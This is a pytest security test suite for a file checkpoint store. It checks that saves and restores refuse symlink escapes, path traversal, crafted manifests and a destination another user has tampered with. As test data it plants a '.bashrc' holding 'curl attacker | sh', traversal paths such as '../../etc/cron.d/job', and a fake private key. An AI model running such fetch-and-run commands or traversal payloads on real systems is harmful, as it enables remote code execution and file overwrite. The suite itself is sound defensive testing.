"""Saving and restoring files cannot be turned against the host: no reading outside the saved directory, no
writing outside the restore destination, and a clear error naming the path for every odd file. Both stores.
"""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from maintenance import BALLAST, keys, read_tree, rewrite_latest_tree, tree
from s3_endpoint import S3Endpoint

from airflow_stateful.core import CheckpointStore, Identity
from airflow_stateful.core.errors import InvalidValueError
from airflow_stateful.core.stores.base import ObjectStore
from airflow_stateful.core.stores.local import LocalObjectStore

IDENTITY = Identity.for_task(dag_id="etl", task_id="files", run_id="manual__1")


@pytest.fixture(params=["local", "s3"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[ObjectStore]:
    if request.param == "local":
        with LocalObjectStore(root=tmp_path / "state") as local:
            yield local
        return
    endpoint: S3Endpoint = request.getfixturevalue("s3_endpoint")
    with endpoint.store(request.getfixturevalue("s3_prefix")) as s3:
        yield s3


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the saved directory that must never reach the store."""
    path = tmp_path / "outside" / "id_rsa"
    path.parent.mkdir()
    path.write_bytes(b"-----BEGIN PRIVATE KEY----- do not upload")
    return path


def commit(store: ObjectStore, files: Path, **kwargs: object) -> None:
    cs = CheckpointStore(store=store, identity=IDENTITY)
    cs.commit(cs.acquire(steal=True), {"v": 1}, files=files, **kwargs)  # type: ignore[arg-type]


def test_a_link_to_a_file_outside_the_directory_is_never_uploaded(
    store: ObjectStore, tmp_path: Path, secret: Path
) -> None:
    work = tree(tmp_path / "work", {"model.bin": b"weights"})
    (work / "key").symlink_to(secret)
    for follow in (False, True):
        before = keys(store)
        with pytest.raises(InvalidValueError, match=r"work/key") as raised:
            commit(store, work, follow_symlinks=follow)
        assert ("outside the saved directory" in str(raised.value)) == follow
        assert keys(store) - before <= {f"{IDENTITY.key}/~head.json"}, "nothing of the checkpoint was written"
    for info in store.list_objects(""):
        assert b"PRIVATE KEY" not in store.get(info.key).data


def test_links_inside_the_directory_are_refused_by_name_or_followed_on_request(
    store: ObjectStore, tmp_path: Path
) -> None:
    work = tree(tmp_path / "work", {"data/a.txt": b"alpha", "data/sub/b.txt": b"beta"})
    (work / "latest.txt").symlink_to(work / "data" / "a.txt")
    (work / "current").symlink_to(work / "data" / "sub", target_is_directory=True)
    with pytest.raises(InvalidValueError, match=r"is a symbolic link; links are not saved by default"):
        commit(store, work)
    commit(store, work, follow_symlinks=True)
    cs = CheckpointStore(store=store, identity=IDENTITY)
    latest = cs.latest()
    assert latest is not None
    assert sorted(f.path for f in cs.files(latest)) == [
        "current/b.txt",
        "data/a.txt",
        "data/sub/b.txt",
        "latest.txt",
    ], "a followed directory link is saved, not skipped silently"
    out = tmp_path / "out"
    cs.restore_files(latest, out)
    assert read_tree(out)["latest.txt"] == b"alpha" and not (out / "latest.txt").is_symlink()


def test_a_directory_link_out_of_the_tree_a_loop_and_a_dangling_link_are_refused(
    store: ObjectStore, tmp_path: Path, secret: Path
) -> None:
    work = tree(tmp_path / "work", {"a.txt": b"a"})
    (work / "escape").symlink_to(secret.parent, target_is_directory=True)
    with pytest.raises(InvalidValueError, match=r"work/escape' links to .* outside the saved directory"):
        commit(store, work, follow_symlinks=True)
    (work / "escape").unlink()
    (work / "loop").symlink_to(work, target_is_directory=True)
    with pytest.raises(InvalidValueError, match=r"work/loop' links back to a directory already saved"):
        commit(store, work, follow_symlinks=True)
    (work / "loop").unlink()
    (work / "gone").symlink_to(tmp_path / "nowhere")
    with pytest.raises(InvalidValueError, match=r"work/gone' is a dangling symbolic link"):
        commit(store, work, follow_symlinks=True)


def test_restore_never_writes_through_a_link_inside_the_destination(
    store: ObjectStore, tmp_path: Path, secret: Path
) -> None:
    commit(store, tree(tmp_path / "work", {"ssh/id_rsa": b"the checkpoint's own file", "a.txt": b"a"}))
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "ssh").symlink_to(secret.parent, target_is_directory=True)  # planted, or left by the job
    cs = CheckpointStore(store=store, identity=IDENTITY)
    latest = cs.latest()
    assert latest is not None
    with pytest.raises(
        InvalidValueError, match=r"dest/ssh' is a symbolic link inside the restore destination"
    ):
        cs.restore_files(latest, dest)
    assert secret.read_bytes().startswith(b"-----BEGIN"), "the file outside dest is untouched"
    assert sorted(p.name for p in dest.iterdir()) == ["ssh"], "nothing was restored"


def test_restore_onto_a_file_where_a_directory_belongs_changes_nothing(
    store: ObjectStore, tmp_path: Path
) -> None:
    commit(store, tree(tmp_path / "work", {"a/b.txt": b"b", "c.txt": b"c"}))
    dest = tree(tmp_path / "dest", {"a": b"a file, not a directory", "keep.txt": b"mine"})
    cs = CheckpointStore(store=store, identity=IDENTITY)
    latest = cs.latest()
    assert latest is not None
    with pytest.raises(InvalidValueError, match=r"dest/a' is a file where the checkpoint has a directory"):
        cs.restore_files(latest, dest)
    assert read_tree(dest) == {"a": b"a file, not a directory", "keep.txt": b"mine"}


def test_a_file_that_disappears_while_it_is_saved_fails_cleanly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The job deletes one of the files after the commit listed them and before it reads them. (The commit's own
    listing is wrapped to do it at that moment: the store's head read, which used to mark it, now runs while
    the files are listed, core/protocol/prefetch.py.)"""
    import airflow_stateful.core.protocol.checkpoint_store as checkpoint_store

    store = LocalObjectStore(root=tmp_path / "state")
    cs = CheckpointStore(store=store, identity=IDENTITY)
    lease = cs.acquire()
    cs.commit(lease, {"v": 0})
    work = tree(tmp_path / "work", {"a.txt": b"a", "b.txt": b"b"})
    listing = checkpoint_store.collect_files

    def listed_then_deleted(*args: Any, **kwargs: Any) -> Any:
        found = listing(*args, **kwargs)
        (work / "b.txt").unlink()
        return found

    monkeypatch.setattr(checkpoint_store, "collect_files", listed_then_deleted)
    with pytest.raises(InvalidValueError, match=r"'b.txt' disappeared while the checkpoint was being saved"):
        cs.commit(lease, {"v": 1}, files=work)
    assert cs.latest().value == {"v": 0}  # type: ignore[union-attr]


@pytest.mark.parametrize("path", ["../../etc/cron.d/job", "/etc/passwd", "a/../../x", "a\\b", ""])
def test_a_crafted_manifest_path_is_refused_and_nothing_is_written(
    store: ObjectStore, tmp_path: Path, path: str
) -> None:
    """A tree (re-hashed up to the head by whoever crafted it) naming a path out of the destination."""
    from airflow_stateful.core.errors import CheckpointCorruptError

    cs = CheckpointStore(store=store, identity=IDENTITY)
    cs.commit(cs.acquire(), {"v": 1, "ledger": BALLAST}, files=tree(tmp_path / "work", {"a.txt": b"a"}))
    rewrite_latest_tree(store, IDENTITY, lambda t: t["files"][0].update(path=path))
    latest = cs.latest()
    assert latest is not None
    dest = tmp_path / "deep" / "dest"
    with pytest.raises(
        CheckpointCorruptError, match=r"lists the file path .*: it (would restore outside|has a backsl)"
    ):
        cs.restore_files(latest, dest)
    assert list(dest.iterdir()) == [] and sorted(p.name for p in (tmp_path / "deep").iterdir()) == ["dest"]


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("back\\slash.txt", "it has a backslash"),
        (os.fsdecode(b"caf\xe9.txt"), "it is not valid UTF-8"),
    ],
)
def test_a_name_restore_would_refuse_is_refused_at_save(
    store: ObjectStore, tmp_path: Path, name: str, why: str
) -> None:
    """Save and restore share one rule: a checkpoint that was written can always be restored."""
    cs = CheckpointStore(store=store, identity=IDENTITY)
    lease = cs.acquire()
    cs.commit(lease, {"v": 0})
    work = tree(tmp_path / "work", {"ok.txt": b"fine"})
    (work / name).write_bytes(b"data")
    before = keys(store)
    with pytest.raises(InvalidValueError, match=f"cannot be checkpointed: {why}"):
        cs.commit(lease, {"v": 1}, files=work)
    assert keys(store) == before, "nothing was written"
    assert cs.latest().value == {"v": 0}  # type: ignore[union-attr]


def test_a_directory_that_cannot_be_listed_is_an_error_not_a_silent_gap(
    store: ObjectStore, tmp_path: Path
) -> None:
    """A directory deeper than the system's path limit (4,096 bytes) cannot be listed by its path; the old
    walk skipped it without a word and the checkpoint silently lacked its files."""
    work = tree(tmp_path / "work", {"top.txt": b"x"})
    fd = os.open(work, os.O_RDONLY)
    try:
        for _ in range(20):  # 20 x 240 characters, made relative to an open directory (no path is that long)
            os.mkdir("d" * 240, dir_fd=fd)
            inner = os.open("d" * 240, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        os.close(os.open("deep.txt", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    finally:
        os.close(fd)
    cs = CheckpointStore(store=store, identity=IDENTITY)
    lease = cs.acquire()
    before = keys(store)
    with pytest.raises(InvalidValueError, match=r"work/d{240}/.* cannot be read \(File name too long\)"):
        cs.commit(lease, {"v": 1}, files=work)
    assert keys(store) == before
    # The deep tree is removed the same way it was made (shutil.rmtree copes with long paths via fds).


def test_a_manifest_with_a_path_both_file_and_directory_restores_nothing(
    store: ObjectStore, tmp_path: Path
) -> None:
    """``a`` and ``a/b`` cannot both be restored: refused as corrupt before the destination is touched."""
    from airflow_stateful.core.errors import CheckpointCorruptError

    cs = CheckpointStore(store=store, identity=IDENTITY)
    cs.commit(
        cs.acquire(), {"v": 1, "ledger": BALLAST}, files=tree(tmp_path / "work", {"a": b"1", "b": b"2"})
    )
    rewrite_latest_tree(store, IDENTITY, lambda t: t["files"][1].update(path="a/b"))
    dest = tree(tmp_path / "dest", {"a": b"old", "other": b"kept"})
    latest = cs.latest()
    assert latest is not None
    with pytest.raises(CheckpointCorruptError, match="lists 'a' as a file and 'a/b' below it"):
        cs.restore_files(latest, dest)
    assert read_tree(dest) == {"a": b"old", "other": b"kept"} and sorted(os.listdir(dest)) == ["a", "other"]


# -- a destination someone else prepared (issue 23, MEDIUM 3) --------------------------------------------------
ATTACKER_UID, VICTIM_UID = 64101, 64102
"""Two unprivileged uids with no account: the suite runs as root and forks each side as its own user."""


def _as_user(uid: int, fn: Callable[[], object]) -> str:
    """Run ``fn`` in a child forked from this (root) process that then becomes ``uid`` (no exec: the
    interpreter lives in root's home, which another user may not enter); its result or error, as text."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: drop to the user, do it, report, exit without running the parent's cleanup
        code = 1
        try:
            os.close(read)
            os.setgroups([])
            os.setgid(uid)
            os.setuid(uid)
            answer = f"ok: {fn()!r}"
            code = 0
        except BaseException as exc:
            answer = f"{type(exc).__name__}: {exc}"
        os.write(write, answer.encode("utf-8", "replace")[:65536])
        os._exit(code)
    os.close(write)
    with os.fdopen(read, "rb") as pipe:
        answer = pipe.read().decode("utf-8")
    os.waitpid(pid, 0)
    return answer


def _plant(dest: Path, victim_home: Path) -> None:
    """What the attacker does: a predictable ``--to`` directory, open so the victim can restore into it, with a
    link to the victim's home and a fake journal of an interrupted restore."""
    from airflow_stateful.core.data.restore import STAGING_PREFIX

    dest.mkdir()
    os.chmod(dest, 0o777)
    (dest / "sub").symlink_to(victim_home)
    staging = dest / f"{STAGING_PREFIX}0123456789ab"
    (staging / "old" / "sub").mkdir(parents=True)
    (staging / "old" / "sub" / ".bashrc").write_text("curl attacker | sh\n")
    (staging / "journal.json").write_text(
        json.dumps(
            {"pid": 2**22 + 7, "files": ["sub/.bashrc"], "existed": [True], "created": [], "removed": []}
        )
    )
    for planted in (staging, staging / "old", staging / "old" / "sub"):
        os.chmod(planted, 0o777)  # so the victim's process may move entries out of them


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A directory like /tmp, where both test users may create entries (pytest's tmp_path is root's, 0700)."""
    if os.geteuid() != 0:
        pytest.skip(
            "the cross-user cases fork two unprivileged users, which needs root; this run is not root"
        )
    root = Path(tempfile.mkdtemp(prefix="stateful-xuser-"))
    os.chmod(root, 0o1777)
    try:
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_planted_interrupted_restore_never_replaces_files_outside_the_destination(shared_tmp: Path) -> None:
    """Another local user pre-creates the victim's predictable ``--to`` directory with a link to the victim's
    home and a fake journal: the victim's recovery must not put the attacker's file in the victim's home."""
    home = shared_tmp / "victim-home"
    home.mkdir()
    (home / ".bashrc").write_text("the victim's own\n")
    os.chown(home, VICTIM_UID, VICTIM_UID)
    os.chown(home / ".bashrc", VICTIM_UID, VICTIM_UID)
    os.chmod(home, 0o755)
    dest = shared_tmp / "predictable"
    planted = _as_user(ATTACKER_UID, lambda: _plant(dest, home))
    assert planted.startswith("ok"), planted
    from airflow_stateful.core.data.restore import recover_interrupted

    seen = _as_user(VICTIM_UID, lambda: recover_interrupted(dest))
    print("the victim's recovery:", seen)
    assert (home / ".bashrc").read_text() == "the victim's own\n", (
        "the victim's file outside dest was replaced"
    )
    assert not (home / ".bashrc").is_symlink()


def test_a_restore_refuses_a_destination_another_user_owns_or_others_may_write(
    store: ObjectStore, tmp_path: Path
) -> None:
    cs = CheckpointStore(store=store, identity=IDENTITY)
    cs.commit(cs.acquire(), {"v": 1}, files=tree(tmp_path / "work", {"a.txt": b"a"}))
    latest = cs.latest()
    assert latest is not None
    open_to_all = tmp_path / "open"
    open_to_all.mkdir()
    open_to_all.chmod(0o777)
    with pytest.raises(
        InvalidValueError, match=r"writable by group or others \(mode 777\).*shared_dest=True"
    ):
        cs.restore_files(latest, open_to_all)
    assert list(open_to_all.iterdir()) == [], "refused before anything was written"
    assert cs.restore_files(latest, open_to_all, shared_dest=True), "opting in by name restores"
    if os.geteuid() == 0:
        foreign = tmp_path / "foreign"
        foreign.mkdir()
        os.chown(foreign, ATTACKER_UID, ATTACKER_UID)
        with pytest.raises(InvalidValueError, match=rf"owned by uid {ATTACKER_UID}"):
            cs.restore_files(latest, foreign)
        assert list(foreign.iterdir()) == []


def test_undoing_an_interrupted_restore_never_writes_through_a_link_in_the_destination(
    tmp_path: Path,
) -> None:
    """Even a journal of this user's own (a restore that really was killed) is not followed through a link that
    appeared in ``dest`` since: the recovery stops, saying which, and writes nothing outside ``dest``."""
    from airflow_stateful.core.data.restore import STAGING_PREFIX, recover_interrupted

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x").write_text("outside, untouched")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "sub").symlink_to(outside)
    staging = dest / f"{STAGING_PREFIX}0123456789ab"
    (staging / "old" / "sub").mkdir(parents=True, mode=0o700)
    staging.chmod(0o700)
    (staging / "old" / "sub" / "x").write_text("what the killed restore moved aside")
    (staging / "journal.json").write_text(
        json.dumps({"pid": 2**22 + 7, "files": ["sub/x"], "existed": [True], "created": [], "removed": []})
    )
    with pytest.raises(InvalidValueError, match=r"sub' is a symbolic link inside"):
        recover_interrupted(dest)
    assert (outside / "x").read_text() == "outside, untouched"
    assert (staging / "old" / "sub" / "x").exists(), "what was moved aside is kept for whoever looks"


# -- modes come back (issue 23, LOW 4) -------------------------------------------------------------------------
def test_restored_files_keep_their_modes_and_new_directories_are_owner_only(
    store: ObjectStore, tmp_path: Path
) -> None:
    """A 0600 key came back 0644 and directories 0755: readable by every local user. The tree records each
    file's permission bits; a restore applies them, and directories it creates are 0700."""
    work = tree(
        tmp_path / "work", {"keys/id_ed25519": b"secret", "bin/run.sh": b"#!/bin/sh\n", "data.csv": b"1"}
    )
    os.chmod(work / "keys" / "id_ed25519", 0o600)
    os.chmod(work / "bin" / "run.sh", 0o750)
    os.chmod(work / "data.csv", 0o644)
    cs = CheckpointStore(store=store, identity=IDENTITY)
    lease = cs.acquire()
    cs.commit(lease, {"v": 1}, files=work)
    latest = cs.latest()
    assert latest is not None
    dest = tmp_path / "restored"
    cs.restore_files(latest, dest)
    modes = {
        rel: os.stat(dest / rel).st_mode & 0o7777 for rel in ("keys/id_ed25519", "bin/run.sh", "data.csv")
    }
    assert modes == {"keys/id_ed25519": 0o600, "bin/run.sh": 0o750, "data.csv": 0o644}
    assert os.stat(dest / "keys").st_mode & 0o777 == 0o700 and os.stat(dest / "bin").st_mode & 0o777 == 0o700
    # A background save uploads a private copy: the copy has the originals' modes, so its tree does too.
    from airflow_stateful.core.data.files import collect_files
    from airflow_stateful.core.data.snapshot import snapshot_files

    snapshot = snapshot_files(work, staging_root=tmp_path / "staging")
    try:
        assert {f.rel: f.mode for f in collect_files(snapshot.path)} == {
            f.rel: f.mode for f in collect_files(work)
        }
    finally:
        snapshot.discard()
    # A setuid bit never comes back, whatever the tree says.
    os.chmod(work / "bin" / "run.sh", 0o4755)
    cs.commit(lease, {"v": 2}, files=work)
    again = tmp_path / "again"
    cs.restore_files(cs.latest(), again)  # type: ignore[arg-type]
    assert os.stat(again / "bin" / "run.sh").st_mode & 0o7777 == 0o755
